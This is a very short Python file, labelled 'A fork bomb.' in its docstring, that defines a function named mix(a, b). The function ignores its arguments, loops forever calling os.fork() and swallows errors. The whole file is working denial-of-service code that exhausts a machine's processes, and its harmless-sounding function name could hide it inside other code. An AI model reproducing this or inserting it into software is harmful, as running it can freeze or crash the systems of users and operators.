"""A fork bomb."""

import os


def mix(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
